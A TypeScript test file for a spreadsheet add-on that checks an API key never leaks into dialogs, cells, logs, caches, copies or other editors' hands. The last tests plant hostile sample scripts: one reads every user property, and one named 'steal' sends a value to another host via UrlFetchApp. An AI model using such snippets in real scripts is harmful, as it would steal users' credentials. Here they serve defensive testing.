/** The key stays with its owner: not in what a service repeats, not in what others can read, not in what others run. */
import { describe, expect, it } from 'vitest';
import type { RunResult } from '../../host/index';
import { runEntryPoint } from '../../src/main/run';
import { type PageStart, PROTOCOL_VERSION, SIDEBAR_CALL } from '../../src/sidebar/protocol';
import { answer, memoryPlatform } from '../support/memory';
import { form, page } from '../support/page-commands';
import { messages } from '../support/scenario';
import { type HostileWorld, openHostileWorld, json, KEY, PROFILE, scriptWith } from './support/hostile-world';

const ENCODED = Buffer.from(`${KEY}:`).toString('base64');

/** The ways in which a service may repeat a key that it does not like. */
const ECHOES: Readonly<Record<string, string>> = {
  plain: JSON.stringify({ message: `bad key ${KEY}` }),
  'upper case': JSON.stringify({ message: `bad key ${KEY.toUpperCase()}` }),
  'escaped slashes': JSON.stringify({ error: { message: `bad key ${KEY}` } }).replaceAll('/', '\\/'),
  'escaped characters': `{"detail":"${[...KEY].map(c => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
  'percent-encoded': JSON.stringify({ errors: [{ message: `?key=${encodeURIComponent(KEY)}` }] }),
  header: '{"message":"Authorization: {{authorization}}"}',
  'Base64 without the colon': JSON.stringify({ message: Buffer.from(KEY).toString('base64') }),
  'a page': `<html><title>401</title><p>Key <code>${KEY}</code></html>`,
  'plain text': `invalid key: ${KEY}`,
  'broken lines': JSON.stringify({ message: `${KEY.slice(0, 12)}\n   ${KEY.slice(12)}` }),
  'at the end of what is shown': JSON.stringify({ message: `${'x'.repeat(285)}${KEY}` }),
};

/** Anything of the key that would be of use: its letters and digits in a row, whatever stands between them. */
function holdsKey(value: unknown): boolean {
  const squeezed = (text: string): string => text.toLowerCase().replace(/[^a-z0-9]/g, '');
  const text = squeezed(JSON.stringify(value));
  return [KEY, ENCODED.replace(/=+$/, ''), encodeURIComponent(KEY)].some(form =>
    text.includes(squeezed(form)),
  );
}

function everythingShown(world: HostileWorld, runs: readonly RunResult[]): Record<string, unknown> {
  return {
    spreadsheet: world.book.document,
    'document properties': world.book.properties(),
    'script properties': world.host.scriptProperties().all(),
    dialogs: runs.map(run => run.dialogs.map(({ title, message }) => [title, message])),
    toasts: runs.map(run => run.toasts),
    logs: runs.map(run => run.log),
    errors: runs.map(run => run.error),
    addresses: runs.map(run => run.fetches.map(({ url }) => url)),
  };
}

describe('a service that repeats the key in its errors', () => {
  for (const [name, text] of Object.entries(ECHOES)) {
    it(`does not bring it into dialogs, cells, journal, properties or logs: ${name}`, async () => {
      const list = json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }, { method: 'GET' });
      const world = await openHostileWorld([list]);
      const runs = [world.run('menuPullTags')];
      const hands = world.book.as(world.kim);
      hands.select('Tags');
      for (const status of name === 'plain' ? [400, 401, 403, 422, 500] : [422, 500]) {
        hands.type('Tags', ['Name ★', 2], `edit ${status}`);
        await world.service.answer(list, { path: 'tags', status, text }, PROFILE);
        runs.push(world.run('menuPush'), world.run('menuContinue'));
        world.host.clock.advance(17 * 60_000);
        await world.service.answer({ status, text });
        runs.push(
          world.run('menuPullTags'),
          world.run('menuConnect', [world.service.url, KEY]),
          world.run('menuPullTickets', ['type=1, 2026-10-01~2026-10-02']),
        );
      }
      for (const [place, content] of Object.entries(everythingShown(world, runs)))
        expect(holdsKey(content), place).toBe(false);
      // The messages did arrive: else this test would show nothing.
      const said = runs.map(messages).join('\n');
      expect(said).toContain('The service says:');
      expect(said).toContain(name === 'at the end of what is shown' ? 'xxx' : '***');
    });
  }

  it('does not bring it into the tabs of a request of the team that it accepts', async () => {
    const text = JSON.stringify({ data: { id: 1, sent: '{{authorization}}', key: KEY } });
    const world = await openHostileWorld([{ path: 'echo', text }]);
    const { said } = page(world).request(form('POST echo {"a": 1}'));
    expect(said).toContain('1 accepted');
    expect(world.book.sheet('POST echo').column('value')).toContain('***');
    for (const [place, content] of Object.entries(everythingShown(world, [])))
      expect(holdsKey(content), place).toBe(false);
    expect(holdsKey(said)).toBe(false);
  });

  it.each([KEY, KEY.replaceAll('/', '\\/'), '{{authorization}}'])(
    'does not bring it into the tab of a request of the team that only reads: %s',
    async echo => {
      const row = `{"id": "t1", "name": "${echo}"}`;
      const world = await openHostileWorld([
        { path: 'keys', text: `{"data": [${row}], "meta": {"total": 1}}` },
        { path: 'me', text: `{"data": ${row}}` },
      ]);
      page(world).request(form('GET keys'));
      page(world).request(form('GET me'));
      expect(world.book.sheet('GET keys').column('name').join()).toContain('***');
      expect(world.book.sheet('GET me').column('value').join()).toContain('***');
      for (const [place, content] of Object.entries(everythingShown(world, [])))
        expect(holdsKey(content), place).toBe(false);
    },
  );

  it('would be noticed by this test', () => {
    for (const text of [KEY, KEY.toUpperCase(), [...KEY].join(' '), ENCODED, encodeURIComponent(KEY)])
      expect(holdsKey({ deep: [`so: ${text}!`] })).toBe(true);
    expect(holdsKey({ deep: ['nothing of it'] })).toBe(false);
  });
});

describe('what editors share', () => {
  it('holds answers, never the key: the cache of cell functions', () => {
    const platform = memoryPlatform({
      handler: request =>
        answer(
          request.url.endsWith('workspace-profile')
            ? { id: 'w-1', name: 'Hanbit' }
            : { data: [{ id: 'c1', name: 'Rent' }], meta: { total: 1 } },
        ),
      answers: ['https://api.example.com', KEY, ''].map(text => ({
        button: 'OK',
        text,
      })),
      locale: 'en',
    });
    const cached = new Map<string, string>();
    const cache = {
      getAll: () => new Map<string, string>(),
      putAll: (values: ReadonlyMap<string, string>) => {
        for (const [name, value] of values)
          cached.set(name, name.includes('-0') ? platform.compressor.decompress(value) : value);
      },
    };
    const build = { version: '0', pinnedHost: '' };
    runEntryPoint(platform, build, 'menuConnect', []);
    const call = (method: string, input: unknown, user = ''): { readonly result: PageStart } => {
      const request = JSON.stringify({ version: PROTOCOL_VERSION, method, input, user, email: '' });
      return JSON.parse(String(runEntryPoint(platform, build, SIDEBAR_CALL, [request])));
    };
    const { user } = call('pageStart', null).result;
    call('allowFunctions', { names: ['FIN_CATEGORIES'], answers: {} }, user);
    expect(runEntryPoint({ ...platform, cache }, build, 'FIN_CATEGORIES', [])).toHaveLength(2);
    expect(JSON.stringify([...cached])).toContain('Rent');
    expect(holdsKey([...cached])).toBe(false);
  });

  it('holds nothing of the secret with which a user seals what they confirm', async () => {
    const world = await openHostileWorld([
      json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }, { method: 'GET' }),
      json('tags', {}, { status: 502 }),
    ]);
    const runs = [world.run('menuPullTags')];
    world.book.as(world.kim).select('Tags');
    world.book.as(world.kim).type('Tags', ['Name ★', 2], 'b');
    runs.push(world.run('menuPush'), world.run('menuContinue'), world.run('menuHistory'));
    const secret = world.host.userProperties(world.kim).all()['financeSheets.secret'] ?? '';
    expect(secret.length).toBeGreaterThan(60);
    for (const [place, content] of Object.entries(everythingShown(world, runs)))
      expect(JSON.stringify(content).includes(secret.slice(0, 30)), place).toBe(false);
    expect(JSON.stringify(await world.service.requests())).not.toContain(secret.slice(0, 30));
  });

  it('gives nobody the key of another: without one of their own, an editor can do nothing', async () => {
    const world = await openHostileWorld([
      json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }),
    ]);
    world.run('menuPullTags');
    world.book.as(world.kim).select('Tags');
    world.book.as(world.kim).type('Tags', ['Name ★', 2], 'b');
    const { lee } = world;
    await world.service.requests();
    for (const entryPoint of ['menuPullTags', 'menuPreview', 'menuPush', 'menuContinue']) {
      const result = world.run(entryPoint, [], { user: lee });
      expect(messages(result), entryPoint).toContain('Not connected to the service yet');
    }
    expect(await world.service.requests()).toEqual([]);
    expect(holdsKey(world.run('menuAbout', [], { user: lee }).dialogs)).toBe(false);
    expect(holdsKey(world.host.userProperties(lee).all())).toBe(false);
  });

  it("sends each editor's own key", async () => {
    const world = await openHostileWorld([
      json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }),
    ]);
    const { lee } = world;
    world.run('menuConnect', [world.service.url, 'lees-own-key'], { user: lee });
    await world.service.requests();
    world.run('menuPullTags', [], { user: lee });
    world.run('menuPullTags');
    const keys = (await world.service.requests()).map(({ key }) => key);
    expect(keys).toEqual(['lees-own-key', KEY]);
  });

  it('has no key in a copy of the spreadsheet, whoever made it', async () => {
    const world = await openHostileWorld([
      json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }),
    ]);
    world.run('menuPullTags');
    const { lee } = world;
    const copies = [
      [world.book.copy({ owner: lee }), lee],
      [world.book.copy({ owner: world.kim }), world.kim],
    ] as const;
    await world.service.requests();
    for (const [copy, user] of copies) {
      expect(holdsKey(copy.document)).toBe(false);
      for (const entryPoint of ['menuPullTags', 'menuPush'])
        expect(messages(world.run(entryPoint, [], { user, spreadsheet: copy }))).toContain('Not connected');
      copy.as(user).type('Sheet1', 'A1', '=FIN_CATEGORIES()');
    }
    expect(await world.service.requests()).toEqual([]);
  });
});

describe('whoever may edit a bound script', () => {
  it('can take the key of whoever runs it next: the limit that docs/security.md states, and why it advises an add-on', async () => {
    const script = scriptWith(
      'function innocent() { return PropertiesService.getUserProperties().getProperties(); }',
    );
    const world = await openHostileWorld([], { host: { bundle: script } });
    expect(holdsKey(world.run('innocent').value)).toBe(true);
    // Only of whoever runs it: a script cannot read the properties of others.
    const { lee } = world;
    expect(holdsKey(world.run('innocent', [], { user: lee }).value)).toBe(false);
  });

  it('cannot send it to another host while the manifest pins one', async () => {
    const world = await openHostileWorld();
    const script = scriptWith(
      `function steal(url) { return UrlFetchApp.fetch(url + '/?k=' + 'secret').getResponseCode(); }`,
    );
    const pinned = { ...script.manifest, urlFetchWhitelist: ['https://api.example.com/api/public-docs/'] };
    const other = await openHostileWorld([], {
      host: { bundle: { ...script, manifest: pinned } },
      connect: false,
    });
    const blocked = other.run('steal', [], { args: [world.service.url] });
    expect(blocked.error?.message).toContain('urlFetchWhitelist');
    const free = await openHostileWorld([], { host: { bundle: script }, connect: false });
    expect(free.run('steal', [], { args: [world.service.url] }).value).toBe(200);
  });
});
